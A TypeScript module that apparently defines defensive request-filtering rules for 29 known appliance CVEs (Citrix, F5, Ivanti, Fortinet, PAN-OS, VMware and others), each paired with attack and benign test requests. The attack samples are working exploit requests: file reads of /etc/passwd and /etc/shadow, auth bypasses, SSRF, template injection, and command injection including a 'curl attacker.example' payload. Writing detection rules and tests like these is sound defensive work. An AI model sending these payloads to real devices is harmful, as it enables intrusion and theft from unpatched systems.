// Gateways and devices: Citrix, F5, Ivanti, Palo Alto, Fortinet, Cisco, Check Point, Zyxel and others.
import { asPath, asSent, definePatch, type CatalogPatch } from './entry.js';

const json = { 'Content-Type': 'application/json' };
const xml = { 'Content-Type': 'text/xml' };
const r = String.raw;

export const appliancePatches: readonly CatalogPatch[] = [
  definePatch({
    id: 1007301, cve: 'CVE-2019-19781', title: 'Citrix ADC path traversal', product: 'Citrix ADC and Gateway', affected: '10.5 to 13.0 before January 2020', cwe: 'CWE-22', severity: 'critical', phase: 1,
    links: [['REQUEST_FILENAME', r`@rx /vpn/\.\./+vpns/`, asSent]],
    attack: [['configuration', 'GET /vpn/../vpns/cfg/smb.conf'], ['encoded', 'POST /vpn/%2e%2e/vpns/portal/scripts/newbm.pl', { NSC_USER: '../../../netscaler/portal/templates/x' }, 'url=http://example.org&title=x']],
    benign: [['login page', 'GET /vpn/index.html'], ['in the query', 'GET /x?p=/vpn/../vpns/']],
  }),
  definePatch({
    id: 1007302, cve: 'CVE-2023-3519', title: 'Citrix Gateway buffer overflow in SAML requests', product: 'NetScaler ADC and Gateway', affected: '13.1 before 49.13, 13.0 before 91.13', cwe: 'CWE-94', severity: 'critical', phase: 2,
    links: [['REQUEST_FILENAME', '@contains /gwtest/formssso', asPath], ['ARGS:target', r`@rx (?s)^.{128,}`]],
    attack: [['overlong target', `GET /gwtest/formssso?event=start&target=${'A'.repeat(300)}`]],
    benign: [['a short target', 'GET /gwtest/formssso?event=start&target=https://intranet.example/'], ['elsewhere', `GET /x?target=${'a'.repeat(300)}`]],
  }),
  definePatch({
    id: 1007303, cve: 'CVE-2023-4966', title: 'Citrix Gateway leaks memory for long Host headers', product: 'NetScaler ADC and Gateway', affected: '14.1 before 8.50, 13.1 before 49.15, 13.0 before 92.19', cwe: 'CWE-119', technique: 'T1539', severity: 'critical', phase: 1,
    links: [['REQUEST_FILENAME', '@contains /.well-known/openid-configuration', asPath], ['REQUEST_HEADERS:Host', r`@rx (?s)^.{512,}`]],
    attack: [['overlong Host', 'GET /oauth/idp/.well-known/openid-configuration', { Host: 'a'.repeat(2000) }]],
    benign: [['discovery', 'GET /oauth/idp/.well-known/openid-configuration', { Host: 'gateway.example.org' }], ['a long host elsewhere', 'GET /', { Host: `${'a'.repeat(600)}.example.org` }]],
  }),
  definePatch({
    id: 1007304, cve: 'CVE-2020-5902', title: 'F5 BIG-IP TMUI traversal', product: 'F5 BIG-IP', affected: '11.6 to 15.1.0', cwe: 'CWE-22', severity: 'critical', phase: 1,
    links: [['REQUEST_FILENAME', r`@rx /(?:tmui|hsqldb).*(?:\.\.;|;)`, asSent]],
    attack: [['file reading', 'GET /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd'], ['data base', 'GET /hsqldb;']],
    benign: [['login', 'GET /tmui/login.jsp'], ['in the query', 'GET /x?p=/tmui/..;/']],
  }),
  definePatch({
    id: 1007305, cve: 'CVE-2022-1388', title: 'F5 iControl REST login bypass', product: 'F5 BIG-IP', affected: '11.6 to 16.1.2', cwe: 'CWE-306', severity: 'critical', phase: 1,
    links: [['REQUEST_FILENAME', '@contains /mgmt/', asPath], ['REQUEST_HEADERS:Connection', '@contains x-f5-auth-token', 'lowercase']],
    attack: [['hop-by-hop token', 'POST /mgmt/tm/util/bash', { Connection: 'X-F5-Auth-Token, X-Forwarded-Host', 'X-F5-Auth-Token': 'a', ...json }, '{"command":"run","utilCmdArgs":"-c id"}']],
    benign: [['with a token', 'GET /mgmt/tm/ltm/pool', { 'X-F5-Auth-Token': 'abc', Connection: 'keep-alive' }], ['elsewhere', 'GET /', { Connection: 'X-F5-Auth-Token' }]],
  }),
  definePatch({
    id: 1007306, cve: 'CVE-2021-22986', title: 'F5 iControl REST request forgery', product: 'F5 BIG-IP, BIG-IQ', affected: '12.1 to 16.0.1', cwe: 'CWE-918', severity: 'critical', phase: 2,
    links: [['REQUEST_FILENAME', '@contains /mgmt/shared/authn/login', asPath], ['ARGS_NAMES', '@contains loginreference', 'lowercase']],
    attack: [['reference to itself', 'POST /mgmt/shared/authn/login', json, '{"username":"admin","password":"x","loginReference":{"link":"http://localhost/mgmt/tm/access/bundle-install-tasks"}}']],
    benign: [['a login', 'POST /mgmt/shared/authn/login', json, '{"username":"admin","password":"x","loginProviderName":"tmos"}'], ['elsewhere', 'POST /x', json, '{"loginReference":"a"}']],
  }),
  definePatch({
    id: 1007307, cve: 'CVE-2023-46805', title: 'Ivanti Connect Secure login bypass', product: 'Ivanti Connect Secure and Policy Secure', affected: '9.x, 22.x', cwe: 'CWE-287', severity: 'high', phase: 1,
    links: [['REQUEST_FILENAME', r`@rx /api/v1/(?:totp/user-backup-code|cav/client/status)/+\.\./`, asSent]],
    attack: [['traversal', 'GET /api/v1/totp/user-backup-code/../../system/system-information'], ['encoded', 'GET /api/v1/totp/user-backup-code/%2e%2e/%2e%2e/license/keys-status/x']],
    benign: [['the resource', 'GET /api/v1/totp/user-backup-code'], ['in the query', 'GET /x?p=/api/v1/totp/user-backup-code/../a']],
  }),
  definePatch({
    id: 1007308, cve: 'CVE-2024-21887', title: 'Ivanti Connect Secure command injection', product: 'Ivanti Connect Secure and Policy Secure', affected: '9.x, 22.x', cwe: 'CWE-77', severity: 'critical', phase: 1,
    links: [['REQUEST_FILENAME', '@rx /license/keys-status/.*[;|`$&]', asSent]],
    attack: [['command in the path', 'GET /api/v1/totp/user-backup-code/../../license/keys-status/%3bcurl%20attacker.example']],
    benign: [['a key', 'GET /api/v1/license/keys-status/AB-12'], ['elsewhere', 'GET /api/v1/status/;a']],
  }),
  definePatch({
    id: 1007309, cve: 'CVE-2024-21893', title: 'Ivanti SAML request forgery', product: 'Ivanti Connect Secure, Policy Secure, Neurons for ZTA', affected: '9.x, 22.x', cwe: 'CWE-918', severity: 'high', phase: 2,
    links: [['REQUEST_FILENAME', r`@rx /dana-ws/saml(?:20)?\.ws`, asPath], ['FULL_REQUEST', r`@rx retrievalmethod[^>]{0,200}uri\s*=`, 'lowercase']],
    attack: [['key from elsewhere', 'POST /dana-ws/saml20.ws', xml, '<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"><e:Body><ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:KeyInfo><ds:RetrievalMethod URI="http://127.0.0.1:8090/x"/></ds:KeyInfo></ds:Signature></e:Body></e:Envelope>']],
    benign: [['an envelope', 'POST /dana-ws/saml20.ws', xml, '<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"><e:Body/></e:Envelope>'], ['elsewhere', 'POST /saml/acs', xml, '<RetrievalMethod URI="#a"/>']],
  }),
  definePatch({
    id: 1007310, cve: 'CVE-2019-11510', title: 'Pulse Secure reads any file', product: 'Pulse Connect Secure', affected: '8.2, 8.3 before 7.1, 9.0 before 3.4', cwe: 'CWE-22', technique: 'T1083', severity: 'critical', phase: 1,
    links: [['REQUEST_FILENAME', r`@rx /dana/html5acc/guacamole/\.\./`, asSent]],
    attack: [['password file', 'GET /dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/']],
    benign: [['the application', 'GET /dana/html5acc/guacamole/app.js'], ['login', 'GET /dana-na/auth/url_default/welcome.cgi']],
  }),
  definePatch({
    id: 1007311, cve: 'CVE-2023-35078', title: 'Ivanti EPMM API without login', product: 'Ivanti Endpoint Manager Mobile', affected: 'before 11.8.1.1, 11.9.1.1, 11.10.0.2', cwe: 'CWE-287', severity: 'critical', phase: 1,
    links: [['REQUEST_FILENAME', '@contains /mifs/aad/api/v2/', asPath]],
    attack: [['users', 'GET /mifs/aad/api/v2/admins/users']],
    benign: [['the proper API', 'GET /mifs/api/v2/ping'], ['login', 'GET /mifs/user/login.jsp']],
  }),
  definePatch({
    id: 1007312, cve: 'CVE-2024-3400', title: 'PAN-OS GlobalProtect session file', product: 'Palo Alto PAN-OS', affected: '10.2, 11.0, 11.1 before April 2024', cwe: 'CWE-77', severity: 'critical', phase: 1,
    links: [['REQUEST_FILENAME', r`@rx ^/(?:ssl-vpn|global-protect)/`, asPath], ['REQUEST_COOKIES:SESSID', '@rx [/\\`$.;|]', 'urlDecodeUni']],
    attack: [['path in the session', 'POST /ssl-vpn/hipreport.esp', { Cookie: 'SESSID=/../../../opt/panlogs/tmp/device_telemetry/minute/x`id`' }, 'user=a']],
    benign: [['a session', 'POST /ssl-vpn/hipreport.esp', { Cookie: 'SESSID=6f1d3c9a-77aa-4d0e-9b77-000000000001' }, 'user=a'], ['elsewhere', 'GET /', { Cookie: 'SESSID=a/b' }]],
  }),
  definePatch({
    id: 1007313, cve: 'CVE-2024-0012', title: 'PAN-OS management trusts a header', product: 'Palo Alto PAN-OS', affected: '10.2, 11.0, 11.1, 11.2 before November 2024', cwe: 'CWE-306', severity: 'critical', phase: 1,
    links: [['REQUEST_HEADERS:X-PAN-AUTHCHECK', '@streq off', 'trim,lowercase']],
    attack: [['switching the check off', 'GET /php/ztp_gate.php/.js.map', { 'X-PAN-AUTHCHECK': 'off' }]],
    benign: [['on', 'GET /php/login.php', { 'X-PAN-AUTHCHECK': 'on' }], ['without', 'GET /php/login.php']],
  }),
  definePatch({
    id: 1007314, cve: 'CVE-2018-13379', title: 'FortiOS SSL VPN reads any file', product: 'Fortinet FortiOS', affected: '5.4.6 to 5.4.12, 5.6.3 to 5.6.7, 6.0.0 to 6.0.4', cwe: 'CWE-22', technique: 'T1083', severity: 'critical', phase: 2,
    links: [['REQUEST_FILENAME', '@contains /remote/fgt_lang', asPath], ['ARGS:lang', r`@rx \.\.|//|dev/cmdb`, 'urlDecodeUni,lowercase']],
    attack: [['sessions', 'GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession']],
    benign: [['a language', 'GET /remote/fgt_lang?lang=en'], ['elsewhere', 'GET /x?lang=../en']],
  }),
  definePatch({
    id: 1007315, cve: 'CVE-2022-40684', title: 'FortiOS management login bypass', product: 'Fortinet FortiOS, FortiProxy', affected: '7.0.0 to 7.0.6, 7.2.0 to 7.2.1', cwe: 'CWE-288', severity: 'critical', phase: 1,
    links: [['REQUEST_FILENAME', '@contains /api/v2/cmdb/', asPath], ['REQUEST_HEADERS:Forwarded', r`@rx 127\.0\.0\.1|\[::1\]|localhost`, 'lowercase']],
    attack: [['as if local', 'PUT /api/v2/cmdb/system/admin/admin', { Forwarded: 'for="[127.0.0.1]:8000";by="[127.0.0.1]:9000";', 'User-Agent': 'Report Runner', ...json }, '{"ssh-public-key1":"x"}']],
    benign: [['a call', 'GET /api/v2/cmdb/system/status', { Forwarded: 'for=192.0.2.7' }], ['elsewhere', 'GET /', { Forwarded: 'for=127.0.0.1' }]],
  }),
  definePatch({
    id: 1007316, cve: 'CVE-2022-39952', title: 'FortiNAC takes files without login', product: 'Fortinet FortiNAC', affected: '8.3 to 9.4.0', cwe: 'CWE-73', severity: 'critical', phase: 1,
    links: [['REQUEST_FILENAME', r`@rx /configwizard/keyupload\.jsp`, asPath]],
    attack: [['upload', 'POST /configWizard/keyUpload.jsp', {}, 'key=x']],
    benign: [['the wizard', 'GET /configWizard/index.jsp'], ['a page', 'GET /docs/keyUpload.jsp']],
  }),
  definePatch({
    id: 1007317, cve: 'CVE-2020-3452', title: 'Cisco ASA reads any file', product: 'Cisco ASA and FTD', affected: '9.6 to 9.14.1', cwe: 'CWE-22', technique: 'T1083', severity: 'high', phase: 2,
    links: [['REQUEST_FILENAME', r`@rx /[+ ]cscot[+ ]/(?:translation-table|oem-customization)`, asPath], ['ARGS', r`@rx \.\.|[+ ]cscoe[+ ]`, 'urlDecodeUni,lowercase']],
    attack: [['a portal script', 'GET /+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../'], ['customisation', 'GET /+CSCOT+/oem-customization?app=AnyConnect&type=oem&platform=..&resource-type=..&name=%2bCSCOE%2b/portal_inc.lua']],
    benign: [['a table', 'GET /+CSCOT+/translation-table?type=mst&textdomain=AnyConnect&lang=de'], ['login', 'GET /+CSCOE+/logon.html?x=..']],
  }),
  definePatch({
    id: 1007318, cve: 'CVE-2023-20198', title: 'Cisco IOS XE web services without login', product: 'Cisco IOS XE', affected: '16 and 17 with the web UI', cwe: 'CWE-420', technique: 'T1136', severity: 'critical', phase: 1,
    links: [['REQUEST_FILENAME', r`@rx /webui_wsma_https?`, asSent]],
    attack: [['doubly encoded path', 'POST /%2577eb%2575i_%2577sma_Http', xml, '<a/>']],
    benign: [['the page', 'GET /webui/login.html'], ['an encoded path', 'GET /web%20ui']],
  }),
  definePatch({
    id: 1007319, cve: 'CVE-2024-24919', title: 'Check Point gateways read any file', product: 'Check Point Security Gateway', affected: 'R77 to R81.20', cwe: 'CWE-200', technique: 'T1083', severity: 'high', phase: 2,
    links: [['REQUEST_FILENAME', '@contains /clients/mycrl', asPath], ['FULL_REQUEST', '@contains ../', 'urlDecodeUni']],
    attack: [['password file', 'POST /clients/MyCRL', { 'Content-Type': 'text/plain' }, 'aCSHELL/../../../../../../../etc/shadow']],
    benign: [['a list', 'POST /clients/MyCRL', { 'Content-Type': 'text/plain' }, 'ICA_CRL1.crl'], ['elsewhere', 'POST /notes', {}, 'path=../a']],
  }),
  definePatch({
    id: 1007320, cve: 'CVE-2022-30525', title: 'Zyxel firewalls command injection', product: 'Zyxel USG FLEX, ATP, VPN', affected: 'ZLD 4.60 to 5.21', cwe: 'CWE-78', technique: 'T1059', severity: 'critical', phase: 2,
    links: [['REQUEST_FILENAME', '@contains /ztp/cgi-bin/handler', asPath], ['ARGS:/mtu$/', r`!@rx ^\d*$`]],
    attack: [['command in mtu', 'POST /ztp/cgi-bin/handler', json, '{"command":"setWanPortSt","proto":"dhcp","port":"4","vlan_tagged":"1","vlanid":"5","mtu":"; id;","data":"hi"}']],
    benign: [['a size', 'POST /ztp/cgi-bin/handler', json, '{"command":"setWanPortSt","mtu":"1500"}'], ['elsewhere', 'POST /x', json, '{"mtu":"auto"}']],
  }),
  definePatch({
    id: 1007321, cve: 'CVE-2023-1389', title: 'TP-Link Archer command injection', product: 'TP-Link Archer AX21', affected: 'before 1.1.4', cwe: 'CWE-77', technique: 'T1059', severity: 'high', phase: 2,
    links: [['REQUEST_FILENAME', r`@rx /cgi-bin/luci/.*/locale`, 'urlDecodeUni,lowercase'], ['ARGS:country', '@rx [$`;|&(]', 'urlDecodeUni']],
    attack: [['command in country', 'GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/out)']],
    benign: [['a country', 'GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=DE'], ['elsewhere', 'GET /x?country=$(a)']],
  }),
  definePatch({
    id: 1007322, cve: 'CVE-2024-3273', title: 'D-Link NAS hidden account runs commands', product: 'D-Link DNS-320L, DNS-325, DNS-327L, DNS-340L', affected: 'all, end of life', cwe: 'CWE-77', technique: 'T1059', severity: 'critical', phase: 2,
    links: [['REQUEST_FILENAME', r`@rx /cgi-bin/nas_sharing\.cgi`, asPath], ['ARGS:user', '@streq messagebus', 'trim,lowercase']],
    attack: [['command', 'GET /cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ=']],
    benign: [['another user', 'GET /cgi-bin/nas_sharing.cgi?user=anna&cmd=1'], ['elsewhere', 'GET /x?user=messagebus']],
  }),
  definePatch({
    id: 1007323, cve: 'CVE-2021-36260', title: 'Hikvision language command injection', product: 'Hikvision cameras and recorders', affected: 'firmware before June 2021', cwe: 'CWE-77', technique: 'T1059', severity: 'critical', phase: 2,
    links: [['REQUEST_FILENAME', '@contains /sdk/weblanguage', asPath], ['REQUEST_METHOD', '@streq PUT']],
    attack: [['command in the language', 'PUT /SDK/webLanguage', xml, '<?xml version="1.0"?><language>$(id>webLib/x)</language>']],
    benign: [['reading', 'GET /SDK/webLanguage'], ['elsewhere', 'PUT /SDK/language', xml, '<language>en</language>']],
  }),
  definePatch({
    id: 1007324, cve: 'CVE-2018-10561', title: 'GPON routers skip login for images', product: 'Dasan GPON home routers', affected: 'all', cwe: 'CWE-287', severity: 'critical', phase: 1,
    links: [['REQUEST_URI_RAW', r`@rx /gponform/[^?]*\?images/|/menu\.html\?images/`, asSent]],
    attack: [['diagnosis', 'POST /GponForm/diag_Form?images/', {}, 'XWebPageName=diag&diag_action=ping&dest_host=%60id%60']],
    benign: [['a picture', 'GET /images/logo.png'], ['another query', 'GET /GponForm/diag_Form?a=images/']],
  }),
  definePatch({
    id: 1007325, cve: 'CVE-2016-6277', title: 'Netgear routers run the path', product: 'Netgear R6250, R6400, R7000, R8000', affected: 'before December 2016', cwe: 'CWE-352', technique: 'T1059', severity: 'high', phase: 1,
    links: [['REQUEST_FILENAME', r`@rx ^/cgi-bin/;`, 'urlDecodeUni']],
    attack: [['command', 'GET /cgi-bin/;uname$IFS-a']],
    benign: [['a script', 'GET /cgi-bin/status.cgi;jsessionid=1'], ['elsewhere', 'GET /x/cgi-bin/;a']],
  }),
  definePatch({
    id: 1007326, cve: 'CVE-2022-22954', title: 'Workspace ONE evaluates FreeMarker', product: 'VMware Workspace ONE Access, Identity Manager', affected: '20.10, 21.08, 3.3.x', cwe: 'CWE-94', severity: 'critical', phase: 2,
    links: [['REQUEST_FILENAME', '@contains /catalog-portal/', asPath], ['ARGS', '@rx [$]\\{', 'urlDecodeUni']],
    attack: [['deviceUdid', 'GET /catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7B%22freemarker.template.utility.Execute%22%3Fnew()(%22id%22)%7D']],
    benign: [['an error', 'GET /catalog-portal/ui/oauth/verify?error=denied&deviceUdid=7f00'], ['elsewhere', 'GET /x?q=%24%7Ba%7D']],
  }),
  definePatch({
    id: 1007327, cve: 'CVE-2021-21972', title: 'vCenter plug-in takes uploads', product: 'VMware vCenter Server', affected: '6.5, 6.7, 7.0 before U1c', cwe: 'CWE-22', technique: 'T1505.003', severity: 'critical', phase: 1,
    links: [['REQUEST_FILENAME', '@contains /vropspluginui/rest/services/', asPath]],
    attack: [['archive', 'POST /ui/vropspluginui/rest/services/uploadova', {}, 'x=1']],
    benign: [['the client', 'GET /ui/vropspluginui/index.html'], ['login', 'GET /ui/login']],
  }),
  definePatch({
    id: 1007328, cve: 'CVE-2021-21985', title: 'vCenter vSAN plug-in calls any method', product: 'VMware vCenter Server', affected: '6.5, 6.7, 7.0 before U2b', cwe: 'CWE-20', severity: 'critical', phase: 1,
    links: [['REQUEST_FILENAME', '@contains /h5-vsan/rest/proxy/service/', asPath]],
    attack: [['setting a target', 'POST /ui/h5-vsan/rest/proxy/service/&vsanProviderUtils_setVmodlHelper/setTargetObject', json, '{"methodInput":[null]}']],
    benign: [['another plug-in', 'GET /ui/h5-host/rest/list'], ['in the query', 'GET /x?p=/h5-vsan/rest/proxy/service/']],
  }),
  definePatch({
    id: 1007329, cve: 'CVE-2021-22005', title: 'vCenter analytics writes files', product: 'VMware vCenter Server', affected: '6.7, 7.0 before U2c', cwe: 'CWE-22', technique: 'T1505.003', severity: 'critical', phase: 1,
    links: [['REQUEST_FILENAME', '@contains /analytics/telemetry/ph/api/', asPath], ['ARGS_GET:_i', '@contains ..', 'urlDecodeUni']],
    attack: [['a scheduled job', 'POST /analytics/telemetry/ph/api/hyper/send?_c=&_i=/../../../../../../etc/cron.d/x', json, '{}']],
    benign: [['telemetry', 'POST /analytics/telemetry/ph/api/hyper/send?_c=vc&_i=9D36C850', json, '{}'], ['elsewhere', 'GET /x?_i=..']],
  }),
];
